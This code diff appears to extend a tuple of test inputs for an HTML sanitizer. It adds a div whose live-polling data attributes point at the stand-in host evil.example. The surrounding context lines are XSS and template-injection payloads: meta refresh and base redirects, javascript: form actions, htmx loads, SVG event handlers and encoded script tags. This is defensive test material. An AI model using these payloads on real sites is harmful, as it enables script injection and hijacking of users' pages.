@@ -17,6 +17,7 @@ TEXTS = (
     "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href='http://evil.example/'>",
     "<form action=http://evil.example/><button formaction=javascript:alert(12)>a</button></form>",
     "<div hx-get='http://evil.example/' hx-trigger=load hx-on:load=alert(13) data-hx-get=/x></div>",
+    "<div id=live data-renew=http://evil.example/ data-every=1 data-live data-with=main></div>",
     "<svg><animate onbegin=alert(14) attributeName=x dur=1s><use href='data:image/svg+xml,x'/></svg>",
     "&lt;script&gt;alert(15)&lt;/script&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e",
     "<!-- <![CDATA[ ]]> --> <?php echo 1 ?> <%= 7 * 7 %> #{7*7} {{constructor.constructor('alert(16)')()}}",
